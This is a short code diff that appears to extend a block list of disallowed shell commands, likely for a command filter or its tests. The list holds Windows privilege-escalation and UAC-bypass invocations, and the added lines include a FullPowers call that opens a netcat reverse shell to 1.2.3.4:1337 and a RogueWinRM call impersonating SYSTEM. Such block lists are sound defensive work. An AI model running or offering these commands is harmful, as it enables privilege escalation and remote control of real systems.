@@ -74,6 +74,9 @@ BLOCKED = [
     ("powershell", "C:\\Windows\\System32\\computerdefaults.exe"),
     ("powershell", ".\\Akagi64.exe 23 C:\\Windows\\System32\\cmd.exe"),
     ("posix", "runas.exe /user:Administrator cmd.exe"),
+    # FullPowers gives a service account its privileges back; RogueWinRM impersonates SYSTEM.
+    ("powershell", 'FullPowers -c "C:\\TOOLS\\nc64.exe 1.2.3.4 1337 -e cmd" -z'),
+    ("powershell", ".\\RogueWinRM.exe -p C:\\Users\\Public\\nc64.exe"),
 ]
 
 ALLOWED = [
